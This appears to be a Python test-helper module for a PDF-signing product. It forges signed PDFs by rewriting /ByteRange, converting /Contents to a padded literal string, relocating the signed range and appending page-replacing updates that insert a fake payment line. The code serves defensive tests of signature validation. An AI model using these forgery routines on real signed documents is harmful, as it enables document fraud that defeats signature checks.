"""Byte surgery on signed PDFs for the hostile-geometry tests: what an attacker without the key can do, and a way
for the tests (which hold the test PKI's keys) to sign byte ranges no honest signer would choose.

Nothing here reads attack files: every forgery is built from a PDF that Kyso signed in the test itself.
"""

from __future__ import annotations

import hashlib
import re
from io import BytesIO
from pathlib import Path

from kyso.core.aio import run_sync

PAYLOAD = "PAY 1.000.000.000 VND to attacker"

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]\s*")


def byte_range(data: bytes) -> tuple[int, int, int, int]:
    """The byte range of the last signature dictionary written into ``data``."""
    *_, last = _BYTE_RANGE.finditer(data)
    return tuple(int(g) for g in last.groups())  # type: ignore[return-value]


def set_byte_range(data: bytes, new: tuple[int, int, int, int]) -> bytes:
    """Rewrite the last /ByteRange in place, in the room pyHanko reserves for it (no key needed, no length change)."""
    *_, last = _BYTE_RANGE.finditer(data)
    text = b"/ByteRange [%d %d %d %d]" % new
    room = last.end() - last.start() - 1  # keep the byte that ends the reserved room (a newline)
    assert len(text) <= room, "no room for the new byte range"
    return data[: last.start()] + text.ljust(room) + data[last.end() - 1 :]


def update_page(data: bytes, text: str = PAYLOAD) -> bytes:
    """A legitimate-looking incremental update (pyHanko) that replaces the first page's content stream."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(BytesIO(data), strict=False)
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    stream = generic.StreamObject(stream_data=f"BT /F1 14 Tf 72 770 Td ({text}) Tj ET".encode())
    page["/Contents"] = writer.add_object(stream)
    writer.update_container(page)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def literal_string(payload: bytes, chars: int | None, decoded: int) -> bytes:
    """A PDF literal string token of exactly ``chars`` bytes (as few as possible: None) that decodes to ``payload``
    plus NUL padding, ``decoded`` bytes in all: a raw byte stands for one byte, ``\\000`` (4 characters) too."""
    escaped = payload.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)").replace(b"\r", b"\\r")
    padding = decoded - len(payload)
    chars = 2 + len(escaped) + padding if chars is None else chars
    extra = chars - 2 - len(escaped) - padding  # characters beyond one per padding byte
    assert padding >= 0 and 0 <= extra <= 3 * padding, (padding, extra)
    fours, rest = divmod(extra, 3)
    body = b"\\000" * fours + (b"\\00" if rest == 2 else b"\\0" if rest == 1 else b"")
    body += b"\0" * (padding - fours - (1 if rest else 0))
    token = b"(" + escaped + body + b")"
    assert len(token) == chars
    return token


def forge_literal_contents(signed: bytes, text: str = PAYLOAD) -> bytes:
    """The length-only forgery, without the key: the hex /Contents (``2N + 2`` bytes) becomes a literal string of
    the same size that decodes to more bytes, and an incremental update replacing the page's content is appended.
    The byte range still digests exactly the signed bytes, and ``len1 + len2 + 2 * len(contents) + 2`` is the
    new file size, so a length-only coverage check calls it ENTIRE_FILE (also when the signed range left an
    unsigned tail: the arithmetic absorbs it)."""
    _, len1, start2, len2 = byte_range(signed)
    gap = signed[len1:start2]
    signature = bytes.fromhex(gap[1:-1].decode()).rstrip(b"\0")
    tail = update_page(signed, text)[len(signed) :]
    if (len(signed) + len(tail) - len1 - len2) % 2:
        tail += b"\n"
    decoded = (len(signed) + len(tail) - len1 - len2 - 2) // 2
    forged = signed[:len1] + literal_string(signature, len(gap), decoded) + signed[start2:] + tail
    assert len(forged) == len1 + len2 + 2 * decoded + 2
    return forged


def forge_moved_range(signed: bytes, text: str = PAYLOAD) -> bytes:
    """The forgery as seen in the wild, without the key: the literal /Contents frees room inside the gap for a new
    /ByteRange (pyHanko keeps the first of duplicate keys), a new page content stream and a new cross-reference
    table placed where the signed ``startxref`` points; the signed second range moves to the end of the file."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    _, len1, start2, len2 = byte_range(signed)
    signature = bytes.fromhex(signed[len1:start2][1:-1].decode()).rstrip(b"\0")
    reader = PdfFileReader(BytesIO(signed), strict=False)
    xrefs = reader.xrefs
    revision = xrefs.total_revisions - 1
    table_at = xrefs.get_startxref_for_revision(revision)  # what the signed "startxref" says
    assert start2 < table_at < start2 + len2
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    offsets = {ref.idnum: xrefs[ref] for ref in xrefs.explicit_refs_in_revision(revision)}
    offsets.pop(xrefs.get_xref_container_info(revision).stream_ref.idnum, None)  # the old xref stream itself
    assert all(isinstance(o, int) and o < len1 for o in offsets.values())
    size = int(reader.trailer["/Size"])

    signed_tail = signed[start2 : start2 + len2]
    dictionary_rest = signed_tail[: signed_tail.index(b">>")].split(b"\n", 2)[2]  # /Type /Sig /Filter ...

    # the new file, up to the new cross-reference table; the literal's size is fixed once the layout is known
    def layout(literal: bytes, moved_to: int) -> tuple[bytes, dict[int, int]]:
        body = literal + b"\n/ByteRange [0 %d %d %d]\n" % (len1, moved_to, len2) + dictionary_rest + b">>\nendobj\n"
        at = len1 + len(body)
        objects = {size: at}
        content = f"BT /F1 14 Tf 72 770 Td ({text}) Tj ET".encode()
        body += b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (size, len(content), content)
        page = reader.get_object(page_ref.reference)
        objects[page_ref.idnum] = len1 + len(body)
        entries = b"".join(k.encode() + b" " + _serialise(v) + b" " for k, v in page.items() if k != "/Contents")
        body += b"%d 0 obj\n<< %s/Contents %d 0 R >>\nendobj\n" % (page_ref.idnum, entries, size)
        return body, objects

    prev = xrefs.get_startxref_for_revision(revision - 1)
    numbers = {**offsets, **layout(b"", 0)[1]}
    table_size = len(_xref_table(numbers, size + 1, reader, prev))  # fixed-width entries: offsets do not matter
    moved_to = table_at + table_size + 16
    moved_to += (moved_to - len1) % 2  # 2 * decoded + 2 must fill [len1, moved_to)
    decoded = (moved_to - len1 - 2) // 2
    literal = literal_string(signature, None, decoded)
    body, objects = layout(literal, moved_to)
    assert len1 + len(body) < table_at, "no room left in the gap"
    table = _xref_table({**offsets, **objects}, size + 1, reader, prev)
    head = signed[:len1] + body
    forged = head + b" " * (table_at - len(head)) + table
    forged += b" " * (moved_to - len(forged)) + signed_tail
    assert len(forged) == len1 + len2 + 2 * decoded + 2 and forged[moved_to:] == signed_tail
    return forged


def _serialise(value: object) -> bytes:
    from pyhanko.pdf_utils import generic

    out = BytesIO()
    assert isinstance(value, generic.PdfObject)
    value.write_to_stream(out)
    return out.getvalue()


def _xref_table(offsets: dict[int, int], size: int, reader: object, prev: int) -> bytes:
    lines = [b"xref\n0 1\n0000000000 65535 f \n"]
    for number in sorted(offsets):
        lines.append(b"%d 1\n%010d 00000 n \n" % (number, offsets[number]))
    trailer = reader.trailer  # type: ignore[attr-defined]
    lines.append(
        b"trailer\n<< /Size %d /Root %s /Info %s /Prev %d >>\n"
        % (size, _serialise(trailer.raw_get("/Root")), _serialise(trailer.raw_get("/Info")), prev)
    )
    return b"".join(lines)


def sign_byte_range(data: bytes, claimed: tuple[int, int, int, int], pki: object, name: str = "person") -> bytes:
    """``data`` (a Kyso-signed PDF) with its /ByteRange set to ``claimed`` and re-signed over exactly the bytes
    ``claimed`` names, the CMS written into the hex token that Kyso reserved: a signer (or a signing service fed
    a prepared file) that signed a byte range no honest signer would. Needs the key: test material only."""
    from pyhanko.sign import signers

    _, len1, start2, _ = byte_range(data)
    data = set_byte_range(data, claimed)
    start1, length1, begin2, length2 = claimed
    digest = hashlib.sha256(data[start1 : start1 + length1] + data[begin2 : begin2 + length2]).digest()
    signer = signers.SimpleSigner.load(
        str(pki.key(name)),  # type: ignore[attr-defined]
        str(pki.cert(name)),  # type: ignore[attr-defined]
        ca_chain_files=[str(Path(pki.issuing_ca_cert))],  # type: ignore[attr-defined]
    )
    cms = run_sync(signer.async_sign(digest, "sha256", use_pades=True)).dump()
    room = start2 - len1 - 2
    assert 2 * len(cms) <= room
    return data[: len1 + 1] + cms.hex().upper().encode().ljust(room, b"0") + data[start2 - 1 :]


def append_update(data: bytes, objects: dict[int, bytes]) -> bytes:
    """An incremental update written by hand: ``objects`` (number -> the bytes between ``obj`` and ``endobj``),
    a classic cross-reference table, a trailer chained to the last one. Nothing checks the objects: that is the
    point (pyHanko's writer would refuse to write a broken object)."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(BytesIO(data), strict=False)
    out = data if data.endswith(b"\n") else data + b"\n"
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max(int(reader.trailer["/Size"]), max(objects) + 1)
    table = _xref_table(
        offsets, size, reader, reader.xrefs.get_startxref_for_revision(reader.xrefs.total_revisions - 1)
    )
    return out + table + b"startxref\n%d\n%%%%EOF\n" % len(out)


def form_pdf(value: str = "100.000 VND") -> bytes:
    """A one-page PDF with a text form field ``amount`` holding ``value`` (with an appearance stream)."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.writer import PdfFileWriter

    def name(text: str) -> generic.NameObject:
        return generic.NameObject(text)

    writer = PdfFileWriter()
    font = writer.add_object(
        generic.DictionaryObject(
            {name("/Type"): name("/Font"), name("/Subtype"): name("/Type1"), name("/BaseFont"): name("/Helvetica")}
        )
    )
    resources = generic.DictionaryObject({name("/Font"): generic.DictionaryObject({name("/F1"): font})})
    appearance = generic.StreamObject(
        {
            name("/Type"): name("/XObject"),
            name("/Subtype"): name("/Form"),
            name("/Resources"): resources,
            name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 200, 20))),
        },
        stream_data=f"/Tx BMC BT /F1 12 Tf 2 5 Td ({value}) Tj ET EMC".encode(),
    )
    content = writer.add_object(generic.StreamObject(stream_data=b"BT /F1 14 Tf 72 770 Td (Amount:) Tj ET"))
    page = generic.DictionaryObject(
        {
            name("/Type"): name("/Page"),
            name("/Resources"): resources,
            name("/Contents"): content,
            name("/MediaBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))),
        }
    )
    page_ref = writer.insert_page(page)
    field = writer.add_object(
        generic.DictionaryObject(
            {
                name("/Type"): name("/Annot"),
                name("/Subtype"): name("/Widget"),
                name("/FT"): name("/Tx"),
                name("/T"): generic.TextStringObject("amount"),
                name("/V"): generic.TextStringObject(value),
                name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (150, 760, 350, 780))),
                name("/P"): page_ref,
                name("/F"): generic.NumberObject(4),
                name("/DA"): generic.TextStringObject("/F1 12 Tf 0 g"),
                name("/AP"): generic.DictionaryObject({name("/N"): writer.add_object(appearance)}),
            }
        )
    )
    page_ref.get_object()[name("/Annots")] = generic.ArrayObject([field])
    writer.root[name("/AcroForm")] = generic.DictionaryObject(
        {
            name("/Fields"): generic.ArrayObject([field]),
            name("/DR"): resources,
            name("/DA"): generic.TextStringObject("/F1 12 Tf 0 g"),
        }
    )
    out = BytesIO()
    writer.write(out)
    return out.getvalue()
